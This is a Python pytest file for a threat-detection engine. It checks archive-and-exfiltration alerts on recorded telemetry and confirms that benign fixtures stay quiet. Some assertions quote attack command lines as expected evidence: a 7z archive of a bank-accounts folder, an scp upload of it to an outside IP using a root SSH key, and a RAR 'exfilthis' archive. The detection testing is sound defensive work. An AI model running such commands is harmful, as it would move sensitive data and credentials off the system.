"""Detection on real third-party telemetry (../shared/corpus) and on benign fixtures."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tidewaiter.cli.main import main
from tidewaiter.pipeline import EngineConfig
from tidewaiter.run import detect_files


def run(*paths: Path) -> list[dict[str, Any]]:
    return detect_files([str(p) for p in paths], EngineConfig(), []).alerts


def test_tetragon_7z_then_scp_is_one_exfiltration_alert(corpus: Path) -> None:
    files = sorted((corpus / "tetragon").glob("merlin-agent-*.json"))
    alerts = run(*files)
    [alert] = [a for a in alerts if a["severity_id"] > 2]
    assert alert["finding_info"]["analytic"]["uid"] == "tw-archive-exfil"
    assert alert["device"]["container"]["uid"] == "80976c957594cea6d9f58d12"
    commands = [e.get("process", {}).get("cmd_line", "") for e in alert["evidences"]]
    assert any("7z a s3nsitiv3.7z ../ops_bank_accounts/" in c for c in commands)
    assert any(
        "scp -i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~" in c for c in commands
    )
    destinations = {e["dst_endpoint"]["ip"] for e in alert["evidences"] if "dst_endpoint" in e}
    assert destinations == {"34.116.205.187"}
    assert alert["severity_id"] == 5  # scp's command line names the archive
    assert {a["technique"]["uid"] for a in alert["finding_info"]["attacks"]} >= {
        "T1560.001",
        "T1048",
    }
    assert len(alerts) == 1  # and nothing else fires on the rest of the chain


def test_every_tetragon_corpus_file_reads_cleanly(corpus: Path) -> None:
    outcome = detect_files(
        [str(p) for p in sorted((corpus / "tetragon").glob("*.json*"))], EngineConfig(), []
    )
    assert outcome.report.skipped_total == 0
    assert not outcome.unreadable


def test_rar_in_atomic_red_team_evtx_is_t1560_001(corpus: Path) -> None:
    alerts = run(corpus / "evtx" / "EAS_PanacheSysmon_vs_AtomicRedTeam01.evtx")
    rar = [
        a
        for a in alerts
        if any(
            "rar a -r exfilthis.rar" in e.get("process", {}).get("cmd_line", "")
            for e in a["evidences"]
        )
    ]
    assert rar, [a["finding_info"]["title"] for a in alerts]
    techniques = {t["technique"]["uid"] for a in rar for t in a["finding_info"]["attacks"]}
    assert "T1560.001" in techniques
    assert rar[0]["device"]["hostname"] == "MSEDGEWIN10"


def test_corrupt_evtx_chunks_are_reported_and_the_run_goes_on(
    corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = corpus / "evtx" / "omerbenamram_sysmon.evtx"
    assert main(["detect", "--json", str(path)]) == 0
    err = capsys.readouterr().err
    assert "chunk" in err
    summary = err.strip().splitlines()[-1]
    assert "skipped" in summary
    assert main(["detect", "--json", "--strict", str(path)]) == 2


@pytest.mark.parametrize("name", ["package-installs.tetragon.jsonl", "log-rotation.falco.jsonl"])
def test_benign_fixtures_raise_nothing_above_low(fixtures: Path, name: str) -> None:
    outcome = detect_files([str(fixtures / "benign" / name)], EngineConfig(), [])
    assert outcome.report.skipped_total == 0
    assert outcome.report.events > 0
    assert [a["finding_info"]["title"] for a in outcome.alerts if a["severity_id"] > 2] == []


def test_log_rotation_is_held_back_by_its_benign_profile(fixtures: Path) -> None:
    outcome = detect_files(
        [str(fixtures / "benign" / "log-rotation.falco.jsonl")], EngineConfig(), []
    )
    assert outcome.alerts == []
    [held] = outcome.suppressed
    assert held["finding_info"]["analytic"]["uid"] == "tw-archive-created"
    assert held["status"] == "Suppressed"
    assert held["status_detail"].startswith("benign profile log-rotation")
    assert "gzip was started by logrotate" in held["status_detail"]


def test_json_output_is_valid_for_every_alert(
    corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["detect", "--json", str(corpus / "evtx" / "EAS_PanacheSysmon_vs_AtomicRedTeam01.evtx")])
    for line in capsys.readouterr().out.splitlines():
        alert = json.loads(line)
        assert alert["class_uid"] == 2004
        assert alert["evidences"]
